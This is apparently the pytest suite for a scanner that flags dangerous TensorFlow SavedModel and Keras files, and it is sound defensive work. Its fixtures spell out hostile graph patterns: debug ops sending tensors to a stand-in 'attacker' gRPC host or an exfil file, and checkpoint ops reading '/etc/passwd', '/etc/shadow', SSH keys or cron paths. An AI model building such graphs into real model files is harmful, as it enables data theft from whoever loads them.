"""TensorFlow SavedModel scanning: side-effect op classes, checkpoint paths, nested functions and
embedded graphs, the text form, Keras metadata, and hostile inputs. Samples are built from the
real protos; nothing is loaded or run."""

from __future__ import annotations

import io
import json

import pytest

from modelward.engine.scan.context import ScanContext
from modelward.engine.scan.result import FileScan
from modelward.engine.scan.tensorflow import report as savedmodel_report
from modelward.engine.scan.tensorflow import savedmodel
from modelward.engine.scan.tensorflow.effects import SIDE_EFFECTS
from modelward.engine.scan.tensorflow.keras_metadata import scan_keras_metadata
from modelward.engine.scan.tensorflow.savedmodel import (
    handler_for_name,
    scan_savedmodel,
    scan_savedmodel_text,
)
from tests.scan.builders import Member, zip_bytes
from tests.scan.graph_builders import (
    LAMBDA_LAYER,
    const,
    function,
    keras_metadata,
    node,
    saved_model,
    string_tensor,
    tf1_benign_model,
    tf2_benign_model,
)
from tests.scan.scanning import SEVERITY, Scan

DANGEROUS = ("savedmodel.op.dangerous", "high")


def pairs(result: FileScan) -> set[tuple[str, str]]:
    return {(f.id, f.severity) for f in result.findings}


def run(model: object, name: str = "saved_model.pb") -> FileScan:
    data = model if isinstance(model, bytes) else model.SerializeToString()  # type: ignore[attr-defined]
    return scan_savedmodel(io.BytesIO(data), len(data), ScanContext.top(name))


def in_function(*nodes: object, args: tuple[str, ...] = ("file_prefix",)) -> FileScan:
    return run(saved_model([], [function("__inference_fn_7", nodes, args)]))


# ---------------------------------------------------------------- benign exports


@pytest.mark.parametrize("build", [tf2_benign_model, tf1_benign_model])
def test_standard_exports_are_clean(build, scan: Scan) -> None:  # type: ignore[no-untyped-def]
    scanned = scan(build().SerializeToString(), "saved_model.pb")
    assert scanned.fmt == "tf-savedmodel"
    assert scanned.result.findings == [] and scanned.result.complete


def test_print_to_stderr_and_debug_ops_without_urls_are_clean() -> None:
    nodes = [
        node("p1", "PrintV2", ["s"], output_stream="stdout"),
        node("p2", "PrintV2", ["s"]),
        node("d", "DebugIdentityV2", ["x"]),
        node("proto", "DecodeProtoV2", ["b"], descriptor_source="local://"),
        node("cache", "CacheDataset", ["ds", "empty"]),
        const("empty", ""),
    ]
    assert in_function(*nodes).findings == []


# ---------------------------------------------------------------- side-effect op classes


@pytest.mark.parametrize("op", sorted(SIDE_EFFECTS))
def test_every_side_effect_op_is_high_in_graph_and_function(op: str) -> None:
    in_graph = run(saved_model([node("n", op)]))
    assert DANGEROUS in pairs(in_graph)
    in_fn = in_function(node("n", op))
    assert DANGEROUS in pairs(in_fn)
    assert "function '__inference_fn_7'" in in_fn.findings[0].message


@pytest.mark.parametrize(
    ("op", "expected"),
    [
        ("PyFunc", "Python callback"),
        ("ReadFile", "reads files"),
        ("WriteFile", "writes files"),
        ("MatchingFiles", "lists files"),
        ("TFRecordDataset", "records from files"),
        ("CreateSummaryFileWriter", "summary event files"),
        ("DataServiceDatasetV4", "remote service"),
        ("ImmutableConst", "memory-maps"),
    ],
)
def test_messages_name_op_node_and_behaviour(op: str, expected: str) -> None:
    (finding,) = run(saved_model([node("evil_node", op)])).findings
    assert f"op {op}" in finding.message and "'evil_node'" in finding.message
    assert expected in finding.message and "meta graph 0 [serve]" in finding.message


@pytest.mark.parametrize(
    "bad",
    [
        node("p", "PrintV2", ["s"], output_stream="file:///tmp/exfil.txt"),
        node("d", "DebugIdentityV2", ["x"], debug_urls=["file:///tmp/dump"]),
        node("d", "DebugNumericSummary", ["x"], debug_urls=["grpc://attacker:6064"]),
        node("c", "CopyHost", ["x"], debug_ops_spec=["DebugIdentity;grpc://attacker:6064;0"]),
        node("proto", "DecodeProtoV2", ["b"], descriptor_source="/etc/passwd"),
        node("s", "FixedUnigramCandidateSampler", ["x"], vocab_file="/etc/passwd"),
    ],
)
def test_attributes_that_point_outside_are_high(bad: object) -> None:
    assert DANGEROUS in pairs(in_function(bad))


def test_suspicious_and_custom_ops_are_medium() -> None:
    result = run(
        saved_model([node("a", "Abort"), node("c", "MyCustomOp"), node("r", "RemoteCall")])
    )
    assert pairs(result) == {
        ("savedmodel.op.suspicious", "medium"),
        ("savedmodel.op.custom", "medium"),
    }
    assert any("MyCustomOp" in f.message for f in result.findings)


# ---------------------------------------------------------------- checkpoint and vocabulary paths


@pytest.mark.parametrize(
    "path_nodes",
    [
        [const("p", "/etc/passwd"), node("r", "RestoreV2", ["p", "names"])],
        [const("p", "../../../../home/u/.ssh/id_rsa"), node("r", "RestoreV2", ["p", "names"])],
        [const("p", "gs://attacker-bucket/x"), node("s", "SaveV2", ["p", "names"])],
        [const("p", "C:\\Windows\\x"), node("s", "Save", ["p", "names"])],
        [
            const("p", "/tmp/evil"),
            node("i", "Identity", ["p"]),
            node("s", "SaveV2", ["i:output:0"]),
        ],
        [const("p", "/tmp/evil"), node("m", "MergeV2Checkpoints", ["prefixes", "p"])],
        [const("v", "/etc/shadow"), node("t", "InitializeTableFromTextFileV2", ["table", "v"])],
        [const("c", "cache.bin"), node("d", "CacheDatasetV2", ["ds", "c", "cache"])],
        # a fed prefix with a climbing suffix, as a hand-edited saver would write it
        [
            const("up", "/../../../etc/cron.d/job"),
            node("j", "StringJoin", ["file_prefix", "up"]),
            node("s", "SaveV2", ["j:output:0"]),
        ],
        # a constant branch of a Select that is absolute
        [
            const("a", "/etc/passwd"),
            node("sel", "Select", ["cond", "file_prefix", "a"]),
            node("r", "RestoreV2", ["sel:output:0"]),
        ],
        # the path hidden in tensor_content (TensorFlow's string-list encoding)
        [
            node("p", "Const", value=string_tensor(content=b"\x0b/etc/passwd", shape=1)),
            node("r", "RestoreV2", ["p"]),
        ],
    ],
)
def test_checkpoint_paths_leaving_the_model_are_high(path_nodes: list[object]) -> None:
    result = in_function(*path_nodes)
    assert DANGEROUS in pairs(result), result.findings
    assert "uses the path" in result.findings[0].message


def test_defaults_and_asset_constants_are_not_trusted_outside_vocabulary_ops() -> None:
    default = [const("d", "/tmp/evil"), node("f", "PlaceholderWithDefault", ["d"]),
               node("s", "SaveV2", ["f"])]  # fmt: skip
    assert DANGEROUS in pairs(in_function(*default))
    asset = [const("asset_path", "/etc/passwd"), node("r", "RestoreV2", ["asset_path"])]
    model = saved_model(asset, assets=[("asset_path:0", "passwd")])
    assert DANGEROUS in pairs(run(model))


@pytest.mark.parametrize("levels", [12, 30, 60])
def test_shared_sub_paths_are_followed_once(levels: int) -> None:
    # each join uses the previous one twice: 2**levels calls, and as many characters, unbounded
    nodes = [const("j0", "a")]
    for level in range(1, levels):
        nodes.append(node(f"j{level}", "StringJoin", [f"j{level - 1}", f"j{level - 1}"]))
    nodes.append(node("r", "RestoreV2", [f"j{levels - 1}"]))
    expected = set() if levels == 12 else {("savedmodel.op.unresolved_path", "medium")}
    assert pairs(in_function(*nodes)) == expected


def test_cycles_in_path_inputs_end() -> None:
    nodes = [
        node("a", "Identity", ["b"]),
        node("b", "Identity", ["a"]),
        node("r", "RestoreV2", ["a"]),
    ]
    assert pairs(in_function(*nodes)) == {("savedmodel.op.unresolved_path", "medium")}


def test_computed_checkpoint_path_is_medium() -> None:
    nodes = [node("f", "RegexReplace", ["file_prefix", "pat", "rw"]), node("r", "RestoreV2", ["f"])]
    assert pairs(in_function(*nodes)) == {("savedmodel.op.unresolved_path", "medium")}


def test_asset_filename_traversal_is_high() -> None:
    model = saved_model([], assets=[("asset:0", "../../etc/passwd")])
    assert pairs(run(model)) == {("savedmodel.asset.traversal", "high")}


# ---------------------------------------------------------------- nesting


def test_ops_in_nested_functions_and_later_meta_graphs() -> None:
    inner = function("__inference_inner_3", [node("rf", "ReadFile", ["name"])], args=["name"])
    outer = function("__inference_outer_2", [node("call", "__inference_inner_3", ["x"])], ["x"])
    result = run(saved_model([node("c", "__inference_outer_2")], [outer, inner], metas=3))
    (finding,) = result.findings
    assert finding.id == "savedmodel.op.dangerous" and finding.severity == "high"
    assert "meta graph 2 [serve]" in finding.message and "__inference_inner_3" in finding.message


def test_graph_embedded_in_dataset_from_graph_is_analysed() -> None:
    from tensorboard.compat.proto import graph_pb2

    inner = graph_pb2.GraphDef(node=[node("py", "PyFunc")])
    blob = inner.SerializeToString()
    nodes = [const("g", blob), node("ds", "DatasetFromGraph", ["g"])]
    (finding,) = run(saved_model(nodes)).findings
    assert (finding.id, finding.severity) == DANGEROUS
    assert "DatasetFromGraph 'ds'" in finding.message and "PyFunc" in finding.message


@pytest.mark.parametrize("source", [node("g", "Placeholder"), const("g", b"\xff\xff\xff")])
def test_dataset_graph_not_analysable_is_medium(source: object) -> None:
    result = run(saved_model([source, node("ds", "DatasetFromGraph", ["g"])]))
    assert pairs(result) == {("savedmodel.op.suspicious", "medium")}


def test_embedded_graphs_nested_past_the_limit_are_incomplete() -> None:
    from tensorboard.compat.proto import graph_pb2

    blob = graph_pb2.GraphDef(node=[node("x", "MatMul")]).SerializeToString()
    for _ in range(savedmodel.MAX_EMBEDDED_DEPTH + 2):
        wrapper = graph_pb2.GraphDef(node=[const("g", blob), node("ds", "DatasetFromGraph", ["g"])])
        blob = wrapper.SerializeToString()
    result = run(saved_model(wrapper.node))
    assert ("savedmodel.limit", "medium") in pairs(result) and not result.complete


# ---------------------------------------------------------------- text form and Keras metadata


def test_pbtxt_form_is_parsed() -> None:
    from google.protobuf import text_format

    model = saved_model([], [function("__inference_f_1", [node("w", "WriteFile", ["p", "c"])])])
    data = text_format.MessageToString(model).encode()
    result = scan_savedmodel_text(io.BytesIO(data), len(data), ScanContext.top("saved_model.pbtxt"))
    assert pairs(result) == {DANGEROUS}
    benign = text_format.MessageToString(tf2_benign_model()).encode()
    clean = scan_savedmodel_text(io.BytesIO(benign), len(benign), ScanContext.top("x.pbtxt"))
    assert clean.findings == [] and clean.complete


def test_broken_pbtxt_is_an_incomplete_finding() -> None:
    data = b"meta_graphs { graph_def { node { op: 'PyFunc' "
    result = scan_savedmodel_text(io.BytesIO(data), len(data), ScanContext.top("saved_model.pbtxt"))
    assert pairs(result) == {("savedmodel.parse_error", "medium")} and not result.complete


def test_keras_metadata_lambda_layer_is_high() -> None:
    model = {"class_name": "Sequential", "config": {"layers": [LAMBDA_LAYER]}}
    data = keras_metadata({"class_name": "Dense", "config": {}}, LAMBDA_LAYER, model)
    result = scan_keras_metadata(io.BytesIO(data), len(data), ScanContext.top("keras_metadata.pb"))
    assert pairs(result) == {("keras.lambda", "high")} and result.complete
    # the model's config repeats the layer's: reported once, at the layer
    assert all("root.layer-1" in f.message for f in result.findings)


def test_keras_metadata_invalid_json_is_incomplete() -> None:
    data = keras_metadata(b"{not json")
    result = scan_keras_metadata(io.BytesIO(data), len(data), ScanContext.top("keras_metadata.pb"))
    assert pairs(result) == {("savedmodel.keras_metadata.invalid", "medium")}
    assert not result.complete


def test_lambda_in_object_graph_metadata_of_saved_model_pb(scan: Scan) -> None:
    model = tf2_benign_model()
    user = model.meta_graphs[0].object_graph_def.nodes.add().user_object
    user.identifier, user.metadata = "_tf_keras_layer", json.dumps(LAMBDA_LAYER)
    scanned = scan(model.SerializeToString(), "saved_model.pb")
    assert pairs(scanned.result) == {("keras.lambda", "high")}


def test_zipped_saved_model_is_scanned(scan: Scan) -> None:
    bad = saved_model([node("py", "EagerPyFunc")]).SerializeToString()
    archive = zip_bytes([Member("model/saved_model.pb", bad), Member("model/variables/x", b"")])
    scanned = scan(archive, "model.zip")
    assert DANGEROUS in pairs(scanned.result)


def test_handler_for_name() -> None:
    assert handler_for_name("a/b/saved_model.pb") is scan_savedmodel
    assert handler_for_name("m\\saved_model.pbtxt") is scan_savedmodel_text
    assert handler_for_name("keras_metadata.pb") is scan_keras_metadata
    assert handler_for_name("model.pb") is None


# ---------------------------------------------------------------- hostile input and bounds


@pytest.mark.parametrize("data", [b"\xff" * 64, b"\x12\xff\xff\xff\x0f", b"\x12\x05\x12\x03\x0a"])
def test_garbage_is_an_incomplete_finding(data: bytes) -> None:
    result = run(data)
    assert pairs(result) == {("savedmodel.parse_error", "medium")} and not result.complete


def test_node_budget_is_an_incomplete_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(savedmodel, "MAX_NODES", 10)
    result = run(saved_model([node(f"n{i}", "MatMul") for i in range(30)]))
    assert pairs(result) == {("savedmodel.limit", "medium")} and not result.complete


def test_findings_are_capped_per_id() -> None:
    functions = [function(f"f{i}", [node("c", f"Custom{i}")]) for i in range(80)]
    result = run(saved_model([], functions))
    assert len(result.findings) == savedmodel_report.MAX_FINDINGS_PER_ID + 1
    assert "30 more places" in result.findings[-1].message


def test_many_nodes_with_one_op_share_a_finding() -> None:
    (finding,) = run(saved_model([node(f"r{i}", "ReadFile") for i in range(7)])).findings
    assert "'r0'" in finding.message and "and 3 more" in finding.message


# ---------------------------------------------------------------- through the dispatcher


def test_pbtxt_file_through_dispatcher(scan: Scan) -> None:
    from google.protobuf import text_format

    data = text_format.MessageToString(saved_model([node("py", "PyFunc")])).encode()
    scanned = scan(data, "saved_model.pbtxt")
    assert scanned.worst >= SEVERITY["high"]


def test_keras_metadata_file_through_dispatcher(scan: Scan) -> None:
    scanned = scan(keras_metadata(LAMBDA_LAYER), "keras_metadata.pb")
    assert ("keras.lambda", "high") in pairs(scanned.result)


def test_zipped_keras_metadata_through_dispatcher(scan: Scan) -> None:
    archive = zip_bytes(
        [
            Member("m/saved_model.pb", tf2_benign_model().SerializeToString()),
            Member("m/keras_metadata.pb", keras_metadata(LAMBDA_LAYER)),
        ]
    )
    assert ("keras.lambda", "high") in pairs(scan(archive, "model.zip").result)


def test_garbage_named_saved_model_through_dispatcher(scan: Scan) -> None:
    scanned = scan(b"\xff" * 64, "saved_model.pb")
    assert not scanned.result.complete and scanned.result.findings
